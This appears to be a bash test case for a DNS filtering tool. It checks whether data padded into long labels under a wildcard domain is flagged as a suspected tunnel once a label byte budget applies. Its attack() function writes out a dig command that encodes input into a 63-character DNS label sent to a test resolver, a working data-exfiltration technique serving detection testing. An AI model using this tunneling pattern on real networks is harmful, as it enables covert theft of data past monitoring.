# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# By default such a label is one more name of the budget; with label_bytes it is refused.
title='Data in long labels under a wildcard, beyond the budget for labels' origin='RESEARCH §2.36'
sink=s reason=tunnel_suspected
extra=(short.test$'\n    dns: { budget: { label_bytes: 40 } }')
attack() { client dig +tries=1 +timeout=10 @198.18.2.53 "a.$(printf '%-63s' "$1" | tr ' ' q).b.wild.test"; }
